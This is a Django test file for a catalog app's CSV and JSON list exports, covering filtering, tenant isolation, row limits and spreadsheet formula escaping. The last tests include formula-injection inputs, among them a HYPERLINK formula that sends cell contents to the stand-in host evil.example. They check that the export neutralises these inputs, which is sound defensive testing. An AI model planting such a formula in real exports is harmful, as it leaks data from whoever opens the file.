"""Lists as files: what the filter lets through, the columns that are named, nothing a spreadsheet would compute."""

import csv
import io
import json
import uuid
from datetime import UTC, datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from catalog.filters import PortalFilter
from catalog.models import Component, Event
from catalog.services.components import create_component
from catalog.views import export
from catalog.views.export import cell
from tests.catalog.test_pages import sign_in
from tests.compliance.proving import a_flow
from tests.compliance.running import an_environment

LISTS = [
    "catalog:component-list", "catalog:environment-list", "catalog:project-list", "catalog:audit", "catalog:members",
    "catalog:teams", "catalog:roles", "catalog:service-accounts", "catalog:keys", "catalog:webhook-tokens",
    "compliance:flow-list", "releases:release-list", "releases:application-list", "releases:ruleset-list",
    "releases:approval-list", "integrations:store-list", "integrations:notification-list",
    "integrations:webhooks", "integrations:notification-rules",
]  # fmt: skip


@pytest.fixture
def browser(client, admin):
    """Acme's admin in a browser."""
    return sign_in(client, admin)


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def document(response) -> dict:
    return json.loads(b"".join(response.streaming_content))


def test_every_list_can_be_had_as_a_file(browser, admin, stranger, subtests):
    create_component(actor=stranger, name="their secret")
    flow, environment = a_flow(admin), an_environment(admin)
    pages = [reverse(name) for name in LISTS] + [
        reverse("compliance:flow", args=[flow.uid]),
        reverse("compliance:environment-snapshots", args=[environment.uid]),
        reverse("compliance:allowlist", args=[environment.uid]),
    ]
    for page in pages:
        with subtests.test(page):
            names = browser.get(page).context["filter"].columns
            as_csv, as_json = (browser.get(page, {"export": kind}) for kind in ("csv", "json"))
            text = b"".join(as_csv.streaming_content).decode()

            assert text.splitlines()[0] == ",".join(names)
            assert "their secret" not in text
            assert len(list(csv.reader(io.StringIO(text)))) == len(document(as_json)["rows"]) + 1
            assert as_csv["Content-Disposition"].startswith("attachment; filename=")
            assert as_csv["Content-Disposition"].endswith(f'-{timezone.localdate()}.csv"')
            assert (as_csv["Content-Type"], as_json["Content-Type"]) == ("text/csv; charset=utf-8", "application/json")


def test_columns_of_every_filter_are_lookups_of_its_model(subtests):
    def below(kind: type) -> list[type]:
        return [each for child in kind.__subclasses__() for each in (child, *below(child))]

    filters = [each for each in below(PortalFilter) if each._meta.model]  # the others are what some have in common
    assert len(filters) > 15
    for each in filters:
        with subtests.test(each.__name__):
            assert each.columns
            assert str(each._meta.model._default_manager.values_list(*each.columns.values()).query)


def test_a_file_holds_what_the_filter_lets_through_however_many_pages(browser, admin):
    alpha = create_component(actor=admin, name="alpha", tags=["a", "b"], lifecycle="production")
    like = {"organization": admin.organization, "lifecycle": "retired"}
    Component.objects.bulk_create(
        Component(**like, name=f"c{at:02}", slug=f"c{at}", record_id=f"r{at}") for at in range(60)
    )
    page = reverse("catalog:component-list")

    assert len(rows_of(browser.get(page, {"export": "csv"}))) == 61
    assert len(rows_of(browser.get(page, {"export": "csv", "lifecycle": "retired", "after": "x"}))) == 60
    found = document(browser.get(page, {"export": "json", "q": "alpha"}))
    assert found["truncated"] is False
    assert [(row["id"], row["name"], row["tags"], row["team"]) for row in found["rows"]] == [
        (str(alpha.uid), "alpha", ["a", "b"], None)
    ]
    assert 'href="?q=alpha&amp;export=csv"' in browser.get(page, {"q": "alpha"}).text
    assert browser.get(page, {"export": "xml"}).context["page"]


def test_a_file_is_bounded_and_says_so_and_costs_the_same(browser, admin, monkeypatch):
    monkeypatch.setattr(export, "LIMIT", 3)
    like = Event.objects.filter(organization_id=admin.organization_id).values().latest("pk")
    with CaptureQueriesContext(connection) as for_few:
        few = document(browser.get("/audit", {"export": "json"}))
    Event.objects.bulk_create(Event(**like | {"id": None, "uid": uuid.uuid4()}) for _ in range(20))
    with CaptureQueriesContext(connection) as for_many:
        response = browser.get("/audit", {"export": "json"})
        many = document(response)

    assert (few["truncated"], many["truncated"], len(many["rows"])) == (False, True, 3)
    assert response["Content-Disposition"].endswith('-first-3.json"')
    assert len(for_few) <= len(for_many) <= len(for_few) + 1  # the page is counted in words too


@pytest.mark.parametrize(("value", "shown"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\rx", "'\rx"),
    ("  =1", "'  =1"), ("a=1", "a=1"), ("", ""), (None, None), (-1, -1), (True, True),
    (["=1", "b"], "'=1, b"), ([], ""), ({"a": "=1"}, '{"a": "=1"}'), ([{"a": 1}], '[{"a": 1}]'),
    (datetime(2026, 1, 2, 3, 4, tzinfo=UTC), "2026-01-02T03:04:00+00:00"),
])  # fmt: skip
def test_no_cell_is_computed_by_a_spreadsheet(value, shown):
    assert cell(value) == shown


def test_a_hostile_name_stays_text_in_the_file(browser, admin):
    name = '=HYPERLINK("http://evil.example?x="&A1,"open"),\n@x'
    create_component(actor=admin, name=name)

    rows = rows_of(browser.get(reverse("catalog:component-list"), {"export": "csv"}))

    assert [row["name"] for row in rows] == [f"'{name}"]
